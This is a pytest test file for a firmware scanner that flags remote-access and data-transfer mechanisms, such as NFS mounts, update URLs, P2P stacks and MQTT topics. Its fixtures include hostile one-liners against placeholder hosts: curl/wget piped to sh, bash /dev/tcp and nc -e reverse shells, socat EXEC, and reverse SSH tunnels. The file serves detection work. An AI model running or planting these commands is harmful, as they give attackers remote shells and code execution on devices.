import time

import pytest

from inspector.formats.reader import BufferReader
from inspector.model.artifact import Artifact
from inspector.scan.base import ScanNotes
from inspector.scan.device.mechanisms import Mechanisms

SCANNER = Mechanisms()


def mechanisms(content: bytes, leaf_format: str = "shell"):
    return list(SCANNER.scan(Artifact("fw", leaf_format, "x", "fw", "/etc/x"), BufferReader(content), ScanNotes()))


@pytest.mark.parametrize(
    ("content", "value", "host"),
    [
        (b"mount -o nolock 202.114.4.119:/pm /mnt\n", "nfs-mount:202.114.4.119:/pm", "202.114.4.119"),
        (b"\x00mount -o nolock 202.114.4.119:/pm /mnt\x00", "nfs-mount:202.114.4.119:/pm", "202.114.4.119"),
        (b"mount -t nfs -o nolock,tcp nas.tuyacn.com:/x/y $DIR\n", "nfs-mount:nas.tuyacn.com:/x/y", "nas.tuyacn.com"),
        (b"47.1.2.3:/export /mnt nfs ro 0 0\n", "nfs-mount:47.1.2.3:/export", "47.1.2.3"),
        (b"tftp -g -r fw.bin 47.1.2.3\n", "tftp-fetch:47.1.2.3", "47.1.2.3"),
        (b"ftpput -u a -p b up.tuyacn.com /x /y\n", "ftp-upload:up.tuyacn.com", "up.tuyacn.com"),
        (b"curl -fsSL http://x.tuyacn.com/i.sh | sh\n", "fetch-and-execute:http://x.tuyacn.com/i.sh", "x.tuyacn.com"),
        (b"wget -q -O- http://x.tuyacn.com/i | /bin/sh", "fetch-and-execute:http://x.tuyacn.com/i", "x.tuyacn.com"),
        (b"wget http://x.cn/a -O /tmp/a && chmod +x /tmp/a", "fetch-and-execute:http://x.cn/a", "x.cn"),
        (b"wget http://x.cn/d/a.sh\nchmod +x a.sh\n./a.sh\n", "fetch-and-execute:http://x.cn/d/a.sh", "x.cn"),
        (b"cd /tmp\r\nwget http://x.cn/a -O b\r\nsleep 1\r\nsh /tmp/b\r\n", "fetch-and-execute:http://x.cn/a", "x.cn"),
        (
            b'curl -s "https://x.cn/r?id=1" > $T/run\nif [ -s x ]; then $T/run; fi',
            "fetch-and-execute:https://x.cn/r?id=1",
            "x.cn",
        ),
        (b"wget 47.1.2.3/bins.sh; chmod 777 bins.sh; sh bins.sh", "fetch-and-execute:47.1.2.3:/bins.sh", "47.1.2.3"),
        (b"tftp -g -r up.ko 47.1.2.3\ninsmod ./up.ko\n", "fetch-and-execute:47.1.2.3", "47.1.2.3"),
        (b'sh -c "$(curl -s https://x.cn/a)"', "fetch-and-execute:https://x.cn/a", "x.cn"),
        (b"*/5 * * * * root wget -q -O - x.cn/a.sh | sh\n", "fetch-and-execute:x.cn:/a.sh", "x.cn"),
        (b"curl x.cn|sh\n", "fetch-and-execute:x.cn", "x.cn"),
        (b"wget http://x.cn/a -O /tmp/f\nsysupgrade -n /tmp/f\n", "fetch-and-execute:http://x.cn/a", "x.cn"),
        (b"wget http://x.cn/f\nflashcp f /dev/mtd3\n", "fetch-and-execute:http://x.cn/f", "x.cn"),
        (b"wget http://x.cn/f\ndd if=/tmp/f of=/dev/mtdblock3 bs=1k\n", "fetch-and-execute:http://x.cn/f", "x.cn"),
        (b"wget http://x.cn/p.ipk\nopkg install /tmp/p.ipk\n", "fetch-and-execute:http://x.cn/p.ipk", "x.cn"),
        (b"wget http://x.cn/p.tgz\ntar xzf /tmp/p.tgz -C /\n", "fetch-and-execute:http://x.cn/p.tgz", "x.cn"),
        (b"wget -O - http://x.cn/p.tgz | tar xz -C /\n", "fetch-and-execute:http://x.cn/p.tgz", "x.cn"),
        (b"U=http://x.cn/fw.sh\nwget $U -O /tmp/x\nsh /tmp/x\n", "fetch-and-execute:http://x.cn/fw.sh", "x.cn"),
        (b'URL="http://x.cn/d"\ncurl -s "${URL}/run" | sh\n', "fetch-and-execute:http://x.cn/d", "x.cn"),
        (b'U="http://x.cn/a.ko"\nwget "$U"\ninsmod a.ko\n', "fetch-and-execute:http://x.cn/a.ko", "x.cn"),
        (b'exec(urllib.request.urlopen("http://x.cn/a.py").read())', "fetch-and-execute:http://x.cn/a.py", "x.cn"),
        (b"rsync -a rsync://m.x.cn/app /opt/app\n", "rsync-fetch:m.x.cn:app", "m.x.cn"),
        (b"rsync -az root@47.1.2.3:/x /opt/app\n", "rsync-fetch:47.1.2.3:/x", "47.1.2.3"),
        (b"scp -P 22 root@47.1.2.3:/x /usr/bin/x\n", "scp-fetch:47.1.2.3:/x", "47.1.2.3"),
        (b"socat TCP:47.1.2.3:4444 EXEC:/bin/sh\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
        (b"telnet 47.1.2.3 4444 | /bin/sh | telnet 47.1.2.3 4445\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
        (b"cat /tmp/f|/bin/sh -i 2>&1|nc 47.1.2.3 4444 >/tmp/f\n", "reverse-shell:47.1.2.3", "47.1.2.3"),
        (b"<ManagementServer><URL>http://acs.x.cn:7547/</URL>", "tr069-acs:http://acs.x.cn:7547/", "acs.x.cn"),
        (b"bash -i >& /dev/tcp/47.1.2.3/4444 0>&1", "reverse-shell:47.1.2.3", "47.1.2.3"),
        (b"nc 47.1.2.3 4444 -e /bin/sh", "reverse-shell:47.1.2.3", "47.1.2.3"),
        (b"ssh -N -R 2222:localhost:22 root@s.tuyacn.com\n", "reverse-tunnel:s.tuyacn.com", "s.tuyacn.com"),
        (b"[common]\nserver_addr = f.x.cn\nserver_port = 7000\n", "reverse-tunnel:f.x.cn", "f.x.cn"),
        (b"/usr/sbin/telnetd -l /bin/sh &\n", "shell-daemon:telnetd -l /bin/sh", ""),
        (b"telnetd\n", "shell-daemon:telnetd", ""),
        (b"\x00telnetd&\x00", "shell-daemon:telnetd", ""),
        (b"dropbear -p 22\n", "shell-daemon:dropbear -p 22", ""),
        (b"acs_url='http://acs.tuyacn.com:7547/x'\n", "tr069-acs:http://acs.tuyacn.com:7547/x", "acs.tuyacn.com"),
        (b"Device.ManagementServer.URL http://acs.x.cn/\n", "tr069-acs:http://acs.x.cn/", "acs.x.cn"),
        (b"\x00http://ota.x.cn/v1/check\x00", "update-url:http://ota.x.cn/v1/check", "ota.x.cn"),
        (b"\x00https://x.cn/firmware/list.json\x00", "update-url:https://x.cn/firmware/list.json", "x.cn"),
        (b"\x00PPCS_Initialize\x00", "p2p-stack:PPCS_", ""),
        (b"\x00IOTC_Connect_ByUID\x00", "p2p-stack:IOTC_", ""),
        (b"\x00smart/device/in/%s\x00", "mqtt-topic:smart/device/in/%s", ""),
        (b"\x00/sys/%s/%s/thing/service/property/set\x00", "mqtt-topic:/sys/%s/%s/thing/service/property/set", ""),
        (b"ntpd -n -p ntp.tuyacn.com\n", "ntp-server:ntp.tuyacn.com", "ntp.tuyacn.com"),
        (b"nameserver 114.114.114.114\n", "dns-server:114.114.114.114", "114.114.114.114"),
        (b"syslogd -R 47.1.2.3:514\n", "syslog-server:47.1.2.3", "47.1.2.3"),
        (b"*.* @log.tuyacn.com\n", "syslog-server:log.tuyacn.com", "log.tuyacn.com"),
        (b"rtsp://admin:hunter2@47.1.2.3/ch\n", "hard-coded-credentials:47.1.2.3", "47.1.2.3"),
    ],
)
def test_names_the_mechanism_and_its_host(content, value, host):
    found = {s.observable.value: dict(s.attributes) for s in mechanisms(content)}
    assert value in found
    assert found[value].get("host", "") == host
    assert found[value]["limb"] in ("remote-administration", "data-transfer")
    assert "hunter2" not in str(found)


def test_the_library_that_is_fetched_is_no_host():
    (found,) = mechanisms(b"tftp -g -r libpart.so 192.168.1.11\n")
    assert found.observable.value == "tftp-fetch:192.168.1.11"


@pytest.mark.parametrize(
    "content",
    [
        b"Homepage: https://www.trustedfirmware.org/\n",
        b"// https://tc39.example.cn/ecma262/#sec-update-expressions\n",
        b"see https://github.com/trezor/trezor-firmware/pull/6128\n",
        b'URL = "https://github.com/x/nitrokey-start-firmware"\n',
        b"https://docs.x.cn/firmware-update#troubleshooting\n",
        b"https://www.x.cn/documentation/radio-firmware/protocol/\n",
    ],
)
def test_a_page_about_firmware_is_no_place_it_comes_from(content):
    assert mechanisms(content) == []


@pytest.mark.parametrize(
    "address",
    [
        b"https://github.com/x/y-firmware/releases/download/1.0/y.zip",
        b"https://raw.githubusercontent.com/x/y-firmware/main/a.bin",
        b"https://firmware.x.cn/",
        b"https://support.x.cn/firmware/v2.bin",
    ],
)
def test_a_download_of_firmware_stays_one(address):
    (found,) = mechanisms(b'fetch("' + address + b'")\n')
    assert found.observable.value == "update-url:" + address.decode()


@pytest.mark.parametrize(
    "content",
    [
        b"mount -t proc proc /proc\n",
        b"mount: bad usage: host:/path /mnt\n",
        b"see telnetd(8) for more\n",
        b"telnetd_enable=0\n",
        b"curl http://x.cn/a > /tmp/x | grep y\n",
        b"nameserver 127.0.0.1\n",
        b"the IOTC_something\n",
        b"http://user:%s@47.1.2.3/",
        b"http://x.cn/photo/a",
        b"wget http://x.cn/list\nchmod +x /bin/other\ngrep x list\n",
        b"wget http://x.cn/list\ncat list\n./listing\n",
        b"curl http://x.cn/a -o -\nchmod +x -\n",
        b"\0wget http://x.cn/a\0chmod +x a\0",
        b"U=http://x.cn/list\nwget $U -O /tmp/list\ncat /tmp/list\n",
        b"U=http://x.cn/a.sh\nwget $URL -O /tmp/a.sh\nsh /tmp/a.sh\n",
        b"rsync -a /opt/app root@47.1.2.3:/x\n",
        b"scp /etc/passwd root@47.1.2.3:/x\n",
        b"wget -q -O - x.cn/a.txt | grep sh\n",
        b"telnet 47.1.2.3 23\n",
        b"wget http://x.cn/p.tgz\ntar xzf /tmp/p.tgz -C /tmp/x\n",
        b"wget -O - http://x.cn/p.tgz | tar xz -C /tmp\n",
        b"wget http://x.cn/f\ndd if=/tmp/f of=/tmp/g\n",
        b"wget http://x.cn/f\nsysupgrade -n /tmp/other\n",
        b"socat TCP-LISTEN:80 TCP:47.1.2.3:80\n",
    ],
)
def test_leaves_other_lines_alone(content):
    assert mechanisms(content) == []


@pytest.mark.parametrize(
    "piece",
    [
        b"mount ", b"curl wget ", b"ssh -R ", b"a", b"nc -e ", b"-p ", b"http://upgrade", b"://a:",
        b"wget http://a.cn/a\nchmod ", b"wget 47.1.2.3/a ", b"A=http://a.cn/a\nwget $A ",
        b"rsync -a ", b"socat tcp:", b"sh |nc ",
    ],
)  # fmt: skip
def test_a_long_line_costs_linear_time(piece):
    def seconds(size: int) -> float:
        began = time.process_time()
        mechanisms(b"telnetd mount " + piece * (size // len(piece)))
        return time.process_time() - began

    seconds(1000)
    assert seconds(120_000) < 16 * max(seconds(30_000), 0.02)
